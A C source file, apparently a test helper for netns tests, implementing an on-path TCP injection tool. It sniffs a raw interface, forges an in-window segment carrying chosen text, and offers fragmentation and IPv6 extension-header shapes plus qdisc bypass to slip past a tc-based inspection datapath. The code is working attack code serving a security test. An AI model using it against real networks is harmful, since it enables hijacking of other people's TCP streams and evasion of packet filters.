// SPDX-License-Identifier: GPL-2.0
/*
 * tcd_inject IFACE LPORT RPORT SHAPE TEXT [next|same] [SECONDS]
 *
 * An on-path attacker for the netns tests (issue 8, finding 1): sniffs
 * IFACE (AF_PACKET) for the next segment carrying data from local port
 * LPORT (0: any) to remote port RPORT, then sends TEXT as the data that follows it
 * ("next", the default) or in its place ("same": for a segment the receiver
 * never got), with the same addresses, ports, ACK and TCP options, so in the
 * receiver's window, in one of these shapes:
 *   whole   one ordinary segment (the control: the method works)
 *   frag    IPv4 or IPv6 fragments: TCP header + 8 bytes, then the rest
 *   atomic  IPv6: a whole segment behind an atomic fragment header
 *   ext5    IPv6: five destination-options headers before TCP
 *   ext9    IPv6: nine of them (more than the datapath follows)
 * Frames go out with PACKET_QDISC_BYPASS: no tc program on IFACE sees them.
 * Prints "injected SHAPE seq N", exit 0; 1 if no segment was seen in time.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "engine/seg.h"

#define BUF 9200

static uint8_t pkt[BUF];

static int send_frame(int fd, int ifindex, const uint8_t *f, size_t len)
{
	struct sockaddr_ll sa = { .sll_family = AF_PACKET, .sll_ifindex = ifindex,
				  .sll_halen = ETH_ALEN };

	memcpy(sa.sll_addr, f, ETH_ALEN);
	return sendto(fd, f, len, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0 ? -errno : 0;
}

/* Fill IPv4 total length + header checksum of the header at IP. */
static void ip4_fix(uint8_t *ip, uint32_t tot)
{
	tc_put16(ip + 2, tot);
	ip[10] = ip[11] = 0;
	tc_put16(ip + 10, ~tc_csum_fold(tc_csum_add(0, ip, (ip[0] & 0xf) * 4)));
}

int main(int argc, char **argv)
{
	static uint8_t seg[BUF], out[BUF];
	const char *shape, *text;
	int fd, ifindex, one = 1, secs, same;
	uint16_t lport, rport;
	struct timespec t0, t;
	struct tc_seg s;
	size_t tlen, l3, thl, seglen, n;
	uint32_t next;

	if (argc < 6) {
		fprintf(stderr, "usage: tcd_inject IFACE LPORT RPORT SHAPE TEXT [next|same] "
			"[SECONDS]\n");
		return 2;
	}
	ifindex = if_nametoindex(argv[1]);
	lport = atoi(argv[2]);
	rport = atoi(argv[3]);
	shape = argv[4];
	text = argv[5];
	same = argc > 6 && !strcmp(argv[6], "same");
	secs = argc > 7 ? atoi(argv[7]) : 10;
	tlen = strlen(text);
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (!ifindex || fd < 0) {
		perror("tcd_inject");
		return 2;
	}
	{
		struct sockaddr_ll sa = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
					  .sll_ifindex = ifindex };

		if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) ||
		    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one))) {
			perror("tcd_inject: bind");
			return 2;
		}
	}
	printf("ready\n");
	fflush(stdout);

	/* the next data segment LPORT -> RPORT: where the receiver's window is */
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		ssize_t r;

		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec >= secs) {
			fprintf(stderr, "tcd_inject: no data segment %u -> %u seen\n", lport, rport);
			return 1;
		}
		if (poll(&p, 1, 100) <= 0)
			continue;
		r = recv(fd, pkt, sizeof(pkt), 0);
		if (r <= 0 || tc_seg_parse(pkt, r, &s) != TC_SEG_TCP)
			continue;
		if ((!lport || s.sport == lport) && s.dport == rport && s.payload_len &&
		    s.l3_off == 14 &&
		    s.l4_off == s.l3_off + (s.family == AF_INET ? 20 : 40))
			break;
	}
	next = same ? s.seq : s.seq + s.payload_len;
	l3 = s.l3_off;
	thl = s.thl;

	/* the TCP segment: its header (options kept), our data, full checksum */
	memcpy(seg, pkt + s.l4_off, thl);
	tc_put32(seg + 4, next);
	seg[13] = TC_TH_ACK | TC_TH_PSH;
	memcpy(seg + thl, text, tlen);
	seglen = thl + tlen;
	seg[16] = seg[17] = 0;
	tc_put16(seg + 16, ~tc_csum_fold(tc_csum_add(tc_csum_pseudo(s.saddr, s.daddr, s.alen,
						seglen), seg, seglen)));

	memcpy(out, pkt, l3);			/* Ethernet header as sniffed */
	if (s.family == AF_INET) {
		uint8_t *ip = out + l3;
		size_t first;

		memcpy(ip, pkt + l3, 20);
		tc_put16(ip + 4, (uint16_t)(s.seq ^ 0x5a5a));	/* an id of our own */
		if (!strcmp(shape, "whole")) {
			tc_put16(ip + 6, 0);
			memcpy(ip + 20, seg, seglen);
			ip4_fix(ip, 20 + seglen);
			n = l3 + 20 + seglen;
			if (send_frame(fd, ifindex, out, n))
				return 1;
		} else if (!strcmp(shape, "frag")) {
			first = thl + 8;		/* a multiple of 8 */
			tc_put16(ip + 6, 0x2000);	/* MF, offset 0 */
			memcpy(ip + 20, seg, first);
			ip4_fix(ip, 20 + first);
			if (send_frame(fd, ifindex, out, l3 + 20 + first))
				return 1;
			tc_put16(ip + 6, first / 8);	/* offset, last */
			memcpy(ip + 20, seg + first, seglen - first);
			ip4_fix(ip, 20 + seglen - first);
			if (send_frame(fd, ifindex, out, l3 + 20 + seglen - first))
				return 1;
		} else {
			fprintf(stderr, "tcd_inject: shape %s is IPv6 only\n", shape);
			return 2;
		}
	} else {
		uint8_t *ip = out + l3, *p;
		int i, next_hdr_off = 6;
		size_t h;

		memcpy(ip, pkt + l3, 40);
		p = ip + 40;
		if (!strcmp(shape, "whole") || !strcmp(shape, "atomic") ||
		    !strcmp(shape, "ext5") || !strcmp(shape, "ext9")) {
			int nx = !strcmp(shape, "ext5") ? 5 : !strcmp(shape, "ext9") ? 9 : 0;

			for (i = 0; i < nx; i++) {
				ip[next_hdr_off] = IPPROTO_DSTOPTS;
				memset(p, 0, 8);
				p[2] = 1;		/* PadN, 4 bytes */
				p[3] = 4;
				next_hdr_off = p - ip;
				p += 8;
			}
			if (!strcmp(shape, "atomic")) {
				ip[next_hdr_off] = IPPROTO_FRAGMENT;
				memset(p, 0, 8);	/* offset 0, M clear: a whole datagram */
				tc_put32(p + 4, next);
				next_hdr_off = p - ip;
				p += 8;
			}
			ip[next_hdr_off] = IPPROTO_TCP;
			memcpy(p, seg, seglen);
			h = p - ip;
			tc_put16(ip + 4, h - 40 + seglen);
			if (send_frame(fd, ifindex, out, l3 + h + seglen))
				return 1;
		} else if (!strcmp(shape, "frag")) {
			size_t first = thl + 8;

			ip[6] = IPPROTO_FRAGMENT;
			p[0] = IPPROTO_TCP;
			p[1] = 0;
			tc_put16(p + 2, 1);		/* offset 0, M */
			tc_put32(p + 4, next);
			memcpy(p + 8, seg, first);
			tc_put16(ip + 4, 8 + first);
			if (send_frame(fd, ifindex, out, l3 + 48 + first))
				return 1;
			tc_put16(p + 2, (first / 8) << 3);	/* offset, last */
			memcpy(p + 8, seg + first, seglen - first);
			tc_put16(ip + 4, 8 + seglen - first);
			if (send_frame(fd, ifindex, out, l3 + 48 + seglen - first))
				return 1;
		} else {
			fprintf(stderr, "tcd_inject: unknown shape %s\n", shape);
			return 2;
		}
	}
	printf("injected %s seq %u\n", shape, next);
	return 0;
}
